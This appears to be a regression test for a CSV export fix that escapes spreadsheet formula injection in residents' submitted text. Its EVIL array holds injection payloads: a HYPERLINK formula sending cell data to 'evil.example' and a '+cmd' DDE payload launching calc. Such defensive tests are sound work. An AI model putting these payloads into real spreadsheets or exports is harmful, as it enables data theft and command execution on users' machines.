// stats_csv.mjs — F6: the statistics CSV export copied residents' words
// (top_unanswered) into cells verbatim, so "=HYPERLINK(…)" or "+cmd|…" ran
// as a formula when staff opened the file in a spreadsheet. The FAQ export
// already guarded against this; both now use the one function
// mg_io_csv_cell (faq/io.h), which puts such text behind an apostrophe.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Resident, scratch, skipReason, startServer } from '../integration/lib.mjs';
import { addUser, login } from './lib.mjs';

const EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"qwerty")', '+cmd|\' /C calc\'!A0 zxcv', '@SUM(1+1) asdf', '-2+3 poiu'];

/** Cells of a CSV text (RFC 4180 quoting), row by row. */
function parseCsv(text) {
  const rows = [];
  let row = [], cell = '', q = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (q) {
      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') q = false; else cell += ch;
    } else if (ch === '"') q = true;
    else if (ch === ',') { row.push(cell); cell = ''; }
    else if (ch === '\n') { row.push(cell.replace(/\r$/, '')); rows.push(row); row = []; cell = ''; }
    else cell += ch;
  }
  if (cell || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

test('statistics CSV cells never start a formula', { skip: skipReason }, async () => {
  const tmp = scratch();
  const srv = await startServer(tmp.db, { config: { max_msgs_per_sec: 100 } });
  try {
    await addUser(tmp.db, 'sato', 'supervisor', null, 'sato password 1');
    const r = await Resident.hello(srv.base);
    for (const [i, text] of EVIL.entries()) await r.ask(`e${i}`, text);
    await r.close();
    const sup = await login(srv.base, 'sato', 'sato password 1');
    for (const table of ['top_unanswered', 'top_questions', 'days', 'departments']) {
      const res = await sup(`/stats?format=csv&table=${table}`);
      assert.equal(res.status, 200);
      const rows = parseCsv((await res.text()).replace(/^\ufeff/, ''));
      for (const row of rows) for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), `${table}: formula cell ${JSON.stringify(cell)}`);
      if (table === 'top_unanswered') {
        const texts = rows.slice(1).map((x) => x[0]);
        for (const e of EVIL) assert.ok(texts.includes(`'${e}`), `${JSON.stringify(e)} exported as text: ${JSON.stringify(texts)}`);
      }
    }
  } finally {
    await srv.stop();
    tmp.cleanup();
  }
});
